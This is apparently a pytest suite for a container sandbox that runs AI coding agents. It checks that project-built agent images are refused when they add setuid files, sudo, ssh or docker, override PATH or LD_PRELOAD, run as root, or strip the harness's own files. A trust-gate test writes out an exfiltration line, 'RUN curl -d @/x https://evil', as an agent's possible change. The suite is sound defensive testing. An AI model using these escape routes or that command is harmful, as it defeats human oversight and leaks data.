"""A project's agent image: its layers read from tar headers and judged like our own images."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from ironcurtain.images import project, project_build
from ironcurtain.images.layers import CAPABILITY_XATTR, changes, layer_changes
from ironcurtain.images.project_build import ProjectImageError, inputs_hash, project_context

ENTRYPOINT = ["/usr/local/bin/ironcurtain-agent-init"]


def _layer(*entries: tuple[str, str, int] | tuple[str, str, int, dict[str, str]]) -> io.BytesIO:
    """A layer tar: (name, kind, mode[, pax headers]); kind file | dir | link:TARGET | hard:T."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind, mode, *pax in entries:
            info = tarfile.TarInfo(name)
            info.mode = mode
            if pax:
                info.pax_headers = pax[0]
            if kind == "dir":
                info.type = tarfile.DIRTYPE
            elif kind.startswith("link:"):
                info.type, info.linkname = tarfile.SYMTYPE, kind[5:]
            elif kind.startswith("hard:"):
                info.type, info.linkname = tarfile.LNKTYPE, kind[5:]
            elif kind == "char":
                info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
            tar.addfile(info, io.BytesIO(b"") if kind == "file" else None)
    buffer.seek(0)
    return buffer


def _judge(*layers: io.BytesIO, cli: str = "claude") -> list[str]:
    for layer in layers:
        layer.seek(0)  # a layer may be judged in more than one order
    return project.layer_problems(changes(layer_changes(x) for x in layers), cli, ENTRYPOINT)


def test_a_toolchain_added_on_top_passes() -> None:
    # control: what a real project adds (a compiler, its folder, a link on PATH)
    assert (
        _judge(
            _layer(
                ("opt/go", "dir", 0o755),
                ("opt/go/bin/go", "file", 0o755),
                ("usr/lib/python3/dist-packages/yaml/__init__.py", "file", 0o644),
                ("usr/lib/python3.11/site-packages/x.py", "file", 0o644),
                ("usr/local/bin/go", "link:/opt/go/bin/go", 0o777),
                ("usr/local/bin", "dir", 0o755),
            )
        )
        == []
    )


@pytest.mark.parametrize(
    ("entries", "named"),
    [
        ([("usr/local/bin/rootsh", "file", 0o4755)], "/usr/local/bin/rootsh is setuid"),
        ([("opt/x/helper", "file", 0o2755)], "/opt/x/helper is setuid/setgid"),
        ([("opt/p", "file", 0o755, {CAPABILITY_XATTR: "\x01"})], "carries file capabilities"),
        ([("usr/bin/sudo", "file", 0o755)], "/usr/bin/sudo: sudo is a way up"),
        ([("usr/local/bin/sudoedit", "file", 0o755)], "sudoedit is a way up or out"),
        ([("opt/tools/dev/null2", "char", 0o666)], "is a device node"),
        ([("opt/ssh/ssh", "file", 0o755)], "ssh is a way up or out"),
        ([("usr/local/bin/docker", "link:/opt/docker", 0o777)], "docker is a way up"),
        ([("usr/local/bin/.wh.ironcurtain-agent-init", "file", 0)], "IronCurtain's own file"),
        ([("usr/local/bin/ironcurtain-api-key", "file", 0o755)], "IronCurtain's own file"),
        ([("etc/claude-code/managed-settings.json", "file", 0o644)], "IronCurtain's own"),
        ([("etc/.wh.claude-code", "file", 0)], "IronCurtain's own file"),
        ([("etc", "link:/tmp/etc", 0o777)], "would hide IronCurtain's own files"),
        ([("usr/local/bin/.wh..wh..opq", "file", 0)], "emptied or removed"),
        ([("usr/.wh.local", "file", 0)], "emptied or removed"),
        ([("usr/local/bin/.wh.claude", "file", 0)], "the agent's command claude is removed"),
        ([("usr/local/bin/claude", "file", 0o644)], "claude is not executable"),
        ([("usr/bin", "link:/tmp", 0o777)], "/usr/bin is replaced by a link"),
        # what our start-up check and entrypoint run on
        ([("usr/local/bin/python3", "file", 0o755)], "the interpreter, shell or loader"),
        ([("usr/bin/python3.11", "file", 0o755)], "the interpreter, shell or loader"),
        ([("usr/lib/python3.11/socket.py", "file", 0o644)], "the interpreter, shell or loader"),
        ([("etc/ld.so.preload", "file", 0o644)], "the interpreter, shell or loader"),
        ([("usr/lib/x86_64-linux-gnu/libc.so.6", "file", 0o755)], "the interpreter, shell"),
        ([("usr/bin/dash", "file", 0o755)], "the interpreter, shell or loader"),
        ([("bin/sh", "link:/opt/evil", 0o777)], "the interpreter, shell or loader"),
        ([("opt/venv/bin/python3", "link:/opt/evil", 0o777)], "the interpreter, shell"),
    ],
)
def test_each_weakening_is_refused_naming_the_path(
    entries: list[tuple[str, str, int]], named: str
) -> None:
    problems = _judge(_layer(*entries))
    assert any(named in p for p in problems), problems


def test_a_later_layer_decides_and_a_whiteout_acts_on_the_layers_below_only() -> None:
    setuid = _layer(("opt/tool", "file", 0o4755))
    fixed = _layer(("opt/tool", "file", 0o755))
    assert _judge(setuid, fixed) == []  # the chmod in a later layer is the final state
    assert _judge(fixed, setuid) != []
    # a whiteout and a re-add in the same layer: the file is there, and judged
    readded = _layer(("opt/.wh..wh..opq", "file", 0), ("opt/tool", "file", 0o4755))
    assert any("setuid" in p for p in _judge(readded))
    removed = _layer(("opt/.wh.tool", "file", 0))
    assert _judge(setuid, removed) == []  # deleted again: nothing left to refuse


def test_names_are_normalised_before_they_are_judged() -> None:
    assert _judge(_layer(("./usr/./bin//sudo", "file", 0o755)))
    assert _judge(_layer(("/usr/local/bin/../bin/sudo", "file", 0o755)))


def test_the_image_config_must_keep_ours() -> None:
    base = {
        "RootFS": {"Layers": ["sha256:a", "sha256:b"]},
        "Config": {"User": "agent", "Entrypoint": ENTRYPOINT,
                   "Labels": {project.AGENT_LABEL: "claude-code"}},
    }  # fmt: skip
    good = {**base, "RootFS": {"Layers": ["sha256:a", "sha256:b", "sha256:c"]}}
    assert project.config_problems(good, base) == []
    assert project.new_layers(good, base) == 1

    def config(**changed: object) -> dict[str, object]:
        return {**good, "Config": {**base["Config"], **changed}}  # type: ignore[dict-item]

    path = "PATH=/usr/local/bin:/usr/bin"
    base["Config"]["Env"] = [path, "LANG=C.UTF-8"]  # type: ignore[index]
    appended = config(Env=[path + ":/opt/go/bin", "LANG=C.UTF-8", "GOPATH=/opt/gopath"])
    assert project.config_problems(appended, base) == []  # control: a toolchain's variables
    for changed, named in [
        ({"Env": ["PATH=/opt/evil:/usr/local/bin:/usr/bin"]}, "PATH must keep"),
        ({"Env": [path, "LD_PRELOAD=/opt/x.so"]}, "sets LD_PRELOAD"),
        ({"Env": [path, "PYTHONPATH=/opt/x"]}, "sets PYTHONPATH"),
        ({"Env": [path, "NODE_OPTIONS=--require /x"]}, "sets NODE_OPTIONS"),
        ({"Env": [path, "BASH_ENV=/x"]}, "sets BASH_ENV"),
        ({"User": "root"}, "runs as 'root'"),
        ({"User": ""}, "runs as 'root'"),
        ({"User": "0:0"}, "runs as '0:0'"),
        ({"User": "agent:root"}, "runs as 'agent:root'"),
        ({"Entrypoint": ["/bin/sh"]}, "the entrypoint"),
        ({"Labels": {project.AGENT_LABEL: "codex"}}, "label changed"),
        ({"Volumes": {"/data": {}}}, "declares volumes /data"),
    ]:
        assert any(named in p for p in project.config_problems(config(**changed), base)), changed
    other = {**good, "RootFS": {"Layers": ["sha256:z", "sha256:b", "sha256:c"]}}
    assert "does not build on the agent's own image" in project.config_problems(other, base)[0]


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("ARG IMAGE_TAG=latest\nFROM ironcurtain/agent-claude-code:${IMAGE_TAG}\n", True),
        ("FROM golang:1.23 AS build\nRUN x\nFROM ironcurtain/agent-claude-code\n", True),
        ("FROM ironcurtain/agent-claude-code\nFROM debian:12\n", False),
        ("FROM ironcurtain/agent-claude-code-evil:latest\n", False),
        ("FROM ironcurtain/agent-codex:latest\n", False),
        ("RUN echo no from\n", False),
    ],
)
def test_the_dockerfile_must_end_on_the_agents_image(text: str, ok: bool) -> None:
    assert (project.dockerfile_problems(text, "agent-claude-code") == []) is ok


def test_the_context_is_the_project_folder_only_with_no_symlink(tmp_path: Path) -> None:
    folder = tmp_path / ".ironcurtain"
    folder.mkdir()
    (folder / project.DOCKERFILE).write_text("FROM ironcurtain/agent-scripted\n")
    (folder / "requirements.txt").write_text("x\n")
    files = project_context(tmp_path)
    assert [f.path for f in files] == [project.DOCKERFILE, "requirements.txt"]
    first = inputs_hash(files, "sha256:parent", "latest")
    assert inputs_hash(files, "sha256:other", "latest") != first  # a new parent rebuilds
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE\n")
    (folder / "key").symlink_to(secret)
    with pytest.raises(ProjectImageError, match="key is a symlink"):
        project_context(tmp_path)


class _NoEngine:
    """A client that must not be reached: the trust gate comes before any build."""

    def __getattr__(self, name: str) -> object:
        raise AssertionError(f"the engine was used ({name}) before the folder was trusted")


def test_a_project_folder_is_built_only_as_the_user_trusted_it(tmp_path: Path) -> None:
    workspace = tmp_path / "repo"
    folder = workspace / ".ironcurtain"
    folder.mkdir(parents=True)
    dockerfile = folder / project.DOCKERFILE
    dockerfile.write_text("FROM ironcurtain/agent-scripted\n")
    state = tmp_path / "state"

    def ensure() -> object:
        return project_build.ensure(
            _NoEngine(), workspace, "agent-scripted", "latest", "python3", state, lambda _: None
        )  # type: ignore[arg-type]

    with pytest.raises(ProjectImageError, match="new or changed since you last trusted it"):
        ensure()
    project_build.trust(workspace, state / "trusted")
    with pytest.raises(AssertionError, match="the engine was used"):
        ensure()  # trusted: it goes on to the engine (control)
    # What the agent could do between two sessions: change one step, or add a file.
    dockerfile.write_text("FROM ironcurtain/agent-scripted\nRUN curl -d @/x https://evil\n")
    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
        ensure()
    dockerfile.write_text("FROM ironcurtain/agent-scripted\n")
    (folder / "extra.sh").write_text("echo\n")
    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
        ensure()
    # Trusting again replaces the record: the agent restoring the old folder is refused...
    (folder / "extra.sh").unlink()
    project_build.trust(workspace, state / "trusted")
    dockerfile.write_text("FROM ironcurtain/agent-scripted\nRUN echo v2\n")
    project_build.trust(workspace, state / "trusted")
    dockerfile.write_text("FROM ironcurtain/agent-scripted\n")
    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
        ensure()
    # ...and so is a folder another repository's user trusted, copied in byte for byte.
    other = tmp_path / "other"
    (other / ".ironcurtain").mkdir(parents=True)
    (other / ".ironcurtain" / project.DOCKERFILE).write_text(dockerfile.read_text())
    project_build.trust(other, state / "trusted")
    with pytest.raises(ProjectImageError, match="changed since you last trusted it"):
        ensure()
    assert project_build.untrust(other, state / "trusted")
    assert not project_build.untrust(other, state / "trusted")


def test_a_huge_file_in_the_folder_is_refused_before_it_is_read(tmp_path: Path) -> None:
    folder = tmp_path / ".ironcurtain"
    folder.mkdir()
    (folder / project.DOCKERFILE).write_text("FROM ironcurtain/agent-scripted\n")
    with (folder / "sparse").open("wb") as f:
        f.truncate(64 << 30)  # 64 GiB of nothing: reading it would exhaust the host
    with pytest.raises(ProjectImageError, match="is over 50 MiB"):
        project_context(tmp_path)
